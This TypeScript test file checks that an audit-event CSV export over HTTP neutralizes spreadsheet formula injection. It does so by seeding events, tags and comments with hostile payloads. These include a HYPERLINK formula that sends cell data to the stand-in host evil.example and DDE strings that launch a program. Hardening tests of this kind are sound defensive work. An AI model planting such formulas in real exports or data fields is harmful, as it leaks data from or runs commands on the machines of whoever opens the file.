import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useTestDatabase } from '@aoc/sim/testing';
import type { NormalizedEvent } from '@aoc/core';
import { startHarness } from '../test-support/harness.js';
import type { Harness } from '../test-support/harness.js';
import { printFigure, probe } from './http-probe.test-helpers.js';

/**
 * Audit data is attacker-controlled (anyone in the tenant can name a group `=HYPERLINK(…)`), and so are tags
 * and comments. Downloaded as CSV over HTTP, no cell may start with a character a spreadsheet evaluates.
 */

const database = useTestDatabase('hardening_csv');
let h: Harness;

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

function hostileEvent(n: number, formula: string): NormalizedEvent {
  const raw = { id: `csv-${n}`, activityDisplayName: formula };
  return {
    id: `csv-${n}`,
    source: 'directory',
    timestamp: new Date(Date.now() - n * 60_000),
    service: formula,
    operation: formula,
    result: formula,
    actor_display: formula,
    target_displays: [formula, 'plain target'],
    display_summary: formula,
    dedupe_key: `directory:csv-${n}`,
    actor: { user: { userPrincipalName: formula } },
    targets: [],
    raw,
    raw_text: JSON.stringify(raw),
    search_terms: ['csv'],
  };
}

/** RFC 4180 CSV into rows of cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

beforeAll(async () => {
  h = await startHarness(database, { events: 1 });
  await h.core.events.upsert(FORMULAS.map((formula, n) => hostileEvent(n, formula)));
}, 60_000);

afterAll(async () => {
  await h.close();
});

describe('CSV export over HTTP', () => {
  it('neutralizes cells starting with =, +, -, @, tab or CR from events, tags and comments', async () => {
    const page = await h.core.events.search({ search: 'csv', page_size: 50 });
    expect(page.items).toHaveLength(FORMULAS.length);
    for (const [i, event] of page.items.entries()) {
      const formula = FORMULAS[i % FORMULAS.length]!;
      const tagged = await probe(`${h.url}/api/events/${event._id}/tags`, {
        method: 'PATCH',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ tags: [formula.trim() || formula, '@tag'] }),
      });
      expect(tagged.status, tagged.body).toBe(200);
      const commented = await probe(`${h.url}/api/events/${event._id}/comments`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ text: `=1+1 ${formula}`, author: '+attacker' }),
      });
      expect(commented.status, commented.body).toBe(201);
    }

    const answer = await probe(`${h.url}/api/events/export?format=csv&search=csv`);
    expect(answer.status).toBe(200);
    expect(answer.contentType).toMatch(/^text\/csv/);
    const rows = parseCsv(answer.body);
    const header = rows[0]!;
    const data = rows.slice(1).filter((row) => row.length === header.length);
    expect(data).toHaveLength(FORMULAS.length);
    let cells = 0;
    let neutralized = 0;
    for (const row of data) {
      for (const [column, cell] of row.entries()) {
        cells += 1;
        expect(cell, `${header[column]} = ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
        if (cell.startsWith("'")) neutralized += 1;
      }
    }
    // Every hostile field came through, as text behind an apostrophe, not dropped or mangled.
    const byColumn = (name: string) => data.map((row) => row[header.indexOf(name)]);
    for (const column of [
      'service',
      'operation',
      'result',
      'actor',
      'summary',
      'targets',
      'tags',
      'comments',
    ]) {
      for (const cell of byColumn(column)) expect(cell, column).toMatch(/^'[=+\-@\t\r]/);
    }
    expect(byColumn('actor').sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
    printFigure('csv export', { rows: data.length, cells, neutralized, formulasLeft: 0 });
  });
});
